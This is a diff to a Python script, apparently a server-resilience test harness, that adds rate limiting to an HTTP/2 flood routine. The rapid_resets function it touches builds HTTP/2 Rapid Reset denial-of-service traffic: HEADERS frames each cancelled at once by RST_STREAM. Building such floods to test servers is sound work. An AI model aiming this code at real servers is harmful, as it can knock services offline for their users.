@@ -333,9 +333,10 @@ def http2(gate, settings=b""):
     return client
 
 
-def http2_flood(gate, seconds, batch):
-    """Sends what `batch` makes of a number, until the connection ends, and then on the next one."""
-    sent, connections, end = 0, 0, time.monotonic() + seconds
+def http2_flood(gate, seconds, batch, pace=None):
+    """Sends what `batch` makes of a number, until the connection ends, and then on the next one; at most `pace` of them a second."""
+    sent, connections, begun = 0, 0, time.monotonic()
+    end = begun + seconds
     while time.monotonic() < end:
         try:
             with http2(gate) as client:
@@ -343,6 +344,8 @@ def http2_flood(gate, seconds, batch):
                 for number in range(10_000):
                     client.sendall(batch(number))
                     sent += 1
+                    if pace:
+                        time.sleep(max(0, begun + sent / pace - time.monotonic()))
                     if time.monotonic() >= end:
                         break
         except OSError:
@@ -351,11 +354,12 @@ def http2_flood(gate, seconds, batch):
 
 
 def rapid_resets(gate, seconds):
+    # 10,000 a second, whatever the machine could send.
     def batch(number):
         streams = range(1 + 200 * number, 201 + 200 * number, 2)
         return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, get(b"/pub/x"))
                         + frame(RST_STREAM, 0, stream, bytes([0, 0, 0, 8])) for stream in streams)
-    return http2_flood(gate, seconds, batch)
+    return http2_flood(gate, seconds, batch, pace=100)
 
 
 def continuations(gate, seconds):
